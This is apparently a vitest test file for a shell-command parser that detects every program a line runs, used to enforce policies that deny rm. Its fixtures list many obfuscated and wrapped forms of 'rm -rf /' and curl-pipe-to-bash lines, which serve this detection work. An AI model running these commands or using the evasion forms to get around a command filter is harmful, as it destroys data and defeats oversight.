// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell source, where ${…} is parameter expansion
import { describe, expect, it } from 'vitest';
import { parseShellCommand, shellActions, shellInterpretation } from './shell-command';

const programsOf = (line: string) => parseShellCommand(line).programs.map((p) => p.program);

/** Ways to run `rm` that a policy denying `rm` must see. */
const RUNS_RM = [
  'rm -rf /',
  '/bin/rm -rf /',
  './rm x',
  '../../bin/rm x',
  '~/bin/rm x',
  '\\rm -rf /',
  '"rm" -rf /',
  "'rm' -rf /",
  "r''m -rf /",
  'r""m -rf /',
  '\\r\\m x',
  'r\\\nm x',
  "$'\\x72\\x6d' -rf /",
  "$'\\162m' x",
  "$'rm' x",
  '"/bin/rm" x',
  'ls | rm x',
  'ls |& rm x',
  'true && rm x',
  'false || rm x',
  'ls; rm x',
  'ls & rm x',
  '(rm x)',
  '{ rm x; }',
  '! rm x',
  'rm x &',
  'time rm x',
  'echo $(rm -rf /)',
  'echo "$(rm -rf /)"',
  'echo `rm -rf /`',
  'x=$(rm -rf /) true',
  'cat <(rm x)',
  'echo ${a[$(rm x)]}',
  'if true; then rm x; fi',
  'for i in 1; do rm x; done',
  'while :; do rm x; done',
  'case a in a) rm x;; esac',
  'f() { rm -rf /; }; f',
  'sh -c "rm -rf /"',
  "bash -c 'rm -rf /'",
  "bash -lc 'cd / && rm -rf *'",
  "sh -ec 'rm x'",
  "bash -o errexit -c 'rm x'",
  'dash -c \'sh -c "rm x"\'',
  "/bin/bash -c 'rm x'",
  "busybox sh -c 'rm x'",
  "zsh -c 'rm x'",
  "fish --command 'rm x'",
  "bash <<< 'rm -rf /'",
  'sh <<EOF\nrm -rf /\nEOF',
  "bash <<'EOF'\nrm -rf /\nEOF",
  "{ sh; } <<'EOF'\nrm -rf /\nEOF",
  'eval "rm -rf /"',
  'eval rm -rf /',
  "builtin eval 'rm x'",
  'env rm -rf /',
  'env -i PATH=/bin rm x',
  'env -u HOME -- rm x',
  'env - rm x',
  "env -S 'rm -rf /'",
  'sudo rm -rf /',
  'sudo -u root rm x',
  'sudo -uroot -- rm x',
  'sudo -E -H -u root env X=1 rm x',
  'sudo --user=root rm x',
  'sudo VAR=1 rm x',
  'doas -u root rm x',
  'pkexec rm x',
  'xargs rm < files',
  'ls | xargs rm',
  'ls | xargs -0 -n 1 rm -f',
  'ls | xargs -I{} rm {}',
  'ls | xargs sh -c \'rm "$@"\' _',
  'find . -exec rm {} \\;',
  'find . -name x -execdir /bin/rm -f {} +',
  'find . -ok rm {} \\;',
  'nice rm x',
  'nice -n 10 rm x',
  'nice -10 rm x',
  'nohup rm x &',
  'timeout 5 rm x',
  'timeout -s KILL -k 1 5 rm x',
  'timeout --signal=KILL 5 rm x',
  'exec rm x',
  'exec -a name rm x',
  'command rm x',
  'command -p rm x',
  'builtin command rm x',
  'setsid rm x',
  'stdbuf -oL rm x',
  '/usr/bin/time -f %e rm x',
  'chroot / rm x',
  'ionice -c3 rm x',
  'taskset -c 1 rm x',
  'taskset 0x1 rm x',
  'unbuffer rm x',
  'strace -f -o /tmp/t rm x',
  'busybox rm -rf /',
  "su -c 'rm -rf /'",
  "su root -c 'rm -rf /'",
  "su - root --command='rm x'",
  'runuser -u root -- rm x',
  "runuser root -c 'rm x'",
  'flock /tmp/l rm x',
  "flock /tmp/l -c 'rm x'",
  "flock -w 5 /tmp/l -c 'rm x'",
  "script -q -c 'rm x' /dev/null",
  'watch rm -rf /tmp/x',
  "watch -n 1 'rm x'",
  "trap 'rm -rf /' EXIT",
  "alias ls='rm -rf'",
  "PROMPT_COMMAND='rm -rf /'",
  "PS1='$(rm -rf /) $ '",
  "export PROMPT_COMMAND='rm x'",
  'sudo nice -n 5 nohup timeout 5 env A=1 rm x',
  'find /tmp -name x -delete',
  "source /dev/stdin <<< 'rm x'",
  ". /dev/stdin <<'EOF'\nrm -rf /\nEOF",
];

/** Lines that cannot be known without running them: must be `unparsed`. */
const DYNAMIC = [
  '$X -rf /',
  '${X} -rf /',
  '"$X" -rf /',
  '$(echo rm) -rf /',
  '`echo rm` -rf /',
  'rm${IFS}-rf /',
  'a=rm; $a -rf /',
  'eval "$CMD"',
  'eval $(cat cmd)',
  'sh -c "$CMD"',
  'bash -c "$(curl -s https://example.test/x.sh)"',
  'echo rm -rf / | sh',
  'curl -s https://example.test/install.sh | bash',
  'cat script | sudo bash',
  'sh <&3',
  'bash <<EOF\n$(cat cmd)\nEOF',
  '/bin/r? -rf /',
  '/bin/r* x',
  '/bin/[r]m x',
  '{rm,-rf,/}',
  '@(rm) x',
  'ls | xargs sudo',
  'ls | xargs sh',
  'ls | xargs -I{} sh -c "{}"',
  'find . -exec {} \\;',
  'find . $OPTS',
  'sudo $OPTS rm x',
  'env $VARS rm x',
  'alias x="$Y"',
  '~root x',
  'echo "unterminated',
  'echo )',
  'for i in 1 2; do',
  "source <(echo 'rm x')",
  '. <(curl -s https://example.test/x.sh)',
  'source "$SCRIPT"',
  'source /dev/fd/3',
  "echo 'rm x' | source /dev/stdin",
];

/** Benign lines that mention rm only as data. */
const BENIGN = [
  'echo rm',
  'echo rm -rf /',
  'echo "rm -rf /"',
  "printf 'rm -rf /\\n'",
  'grep -r "rm -rf" .',
  "grep -rn 'sh -c rm' src",
  'ls -l /bin/rm',
  'cat rm.txt',
  'git rm --cached file',
  'man rm',
  'which rm',
  'type rm',
  'command -v rm',
  'command -V rm',
  'sudo -l rm',
  'find . -name rm',
  'find . -name "*.rm" -print',
  'FOO=rm ls',
  'echo rm # rm -rf /',
  '# rm -rf /',
  'history | grep rm',
  'echo \'sh -c "rm x"\'',
  'xargs echo < rmlist',
  'ls | xargs',
  'trap - EXIT',
  'source ~/.bashrc',
  '. ./env.sh',
  'find . -name "*.tmp" -print',
  'bash script-that-mentions-rm.sh',
];

describe('parseShellCommand', () => {
  it.each(RUNS_RM)('finds rm in %j', (line) => {
    const r = parseShellCommand(line);
    expect(r.programs.map((p) => p.program)).toContain('rm');
  });

  it.each(DYNAMIC)('marks %j as unparsed', (line) => {
    const r = parseShellCommand(line);
    expect(r.unparsed).toBe(true);
    expect(r.reason).toBeTruthy();
  });

  it.each(BENIGN)('does not find rm in %j', (line) => {
    const r = parseShellCommand(line);
    expect(r.programs.map((p) => p.program)).not.toContain('rm');
    expect(r.unparsed).toBe(false);
  });

  it('keeps the path as written and the arguments after quote removal', () => {
    expect(parseShellCommand('/bin/rm -rf \'my dir\' "$HOME"').programs).toEqual([
      { program: 'rm', path: '/bin/rm', args: ['-rf', 'my dir', '"$HOME"'] },
    ]);
  });

  it('lists every program of a pipeline in order', () => {
    expect(programsOf("ps aux | grep -v grep | awk '{print $2}' | sort -n > pids && wc -l pids")).toEqual([
      'ps',
      'grep',
      'awk',
      'sort',
      'wc',
    ]);
  });

  it('finds the wrapper and what it runs', () => {
    expect(programsOf('sudo -u deploy kubectl get pods')).toEqual(['sudo', 'kubectl']);
    expect(programsOf('timeout 10 env A=1 nice aws s3 ls')).toEqual(['timeout', 'env', 'nice', 'aws']);
  });

  it('says when a line is unfinished, so an interactive shell can wait for the rest', () => {
    expect(parseShellCommand('for i in 1 2; do').incomplete).toBe(true);
    expect(parseShellCommand('echo "abc').incomplete).toBe(true);
    expect(parseShellCommand('ls |').incomplete).toBe(true);
    expect(parseShellCommand('echo )').incomplete).toBeUndefined();
    expect(parseShellCommand('for i in 1 2; do\necho $i\ndone').unparsed).toBe(false);
  });

  it('says when a shell reads its commands from the session input', () => {
    expect(parseShellCommand('bash').readsStdin).toBe(true);
    expect(parseShellCommand('sudo -s').readsStdin).toBe(true);
    expect(parseShellCommand('sh -s -- a b').readsStdin).toBe(true);
    expect(parseShellCommand('bash script.sh').readsStdin).toBeUndefined();
    expect(parseShellCommand('sh < script.sh').readsStdin).toBeUndefined();
    expect(parseShellCommand("bash -c 'ls'").readsStdin).toBeUndefined();
  });

  it('refuses to follow nesting without end', () => {
    let line = 'rm x';
    for (let i = 0; i < 12; i++) line = `sh -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    const r = parseShellCommand(line);
    expect(r.unparsed).toBe(true);
    expect(r.reason).toMatch(/nested too deeply/);
  });

  it('handles non-ASCII text around words', () => {
    expect(parseShellCommand('echo "héllo wörld" && rm "fïle"').programs[1]).toEqual({
      program: 'rm',
      path: 'rm',
      args: ['fïle'],
    });
  });

  it('does not throw on junk', () => {
    for (const junk of ['', '   ', '\0\x01', ';;', '((', '$((', '"', "'", '`', '\\', 'a'.repeat(70_000)]) {
      expect(() => parseShellCommand(junk)).not.toThrow();
    }
  });
});

describe('shellActions', () => {
  it('gives program actions', () => {
    expect(shellActions('sudo rm -rf /tmp/x')).toEqual({
      actions: [
        { type: 'program', program: 'sudo', args: ['rm', '-rf', '/tmp/x'] },
        { type: 'program', program: 'rm', args: ['-rf', '/tmp/x'] },
      ],
      unparsed: false,
    });
  });

  it('adds an unparsed action when the line is not fully known', () => {
    const r = shellActions('ls; $X');
    expect(r.unparsed).toBe(true);
    expect(r.actions).toEqual([
      { type: 'program', program: 'ls', args: [] },
      { type: 'unparsed', reason: 'the program name is computed at run time: $X' },
    ]);
  });
});

describe('shellInterpretation', () => {
  it('lists the programs once each and says when nothing runs', () => {
    expect(shellInterpretation('ls; ls -l | sudo rm x')).toMatchObject({
      unparsed: false,
      empty: false,
      kinds: ['ls', 'sudo', 'rm'],
    });
    expect(shellInterpretation('  # just a comment')).toMatchObject({ unparsed: false, empty: true, kinds: [] });
    expect(shellInterpretation('X=1')).toMatchObject({ empty: true });
    expect(shellInterpretation('$X')).toMatchObject({ unparsed: true, empty: false });
  });
});
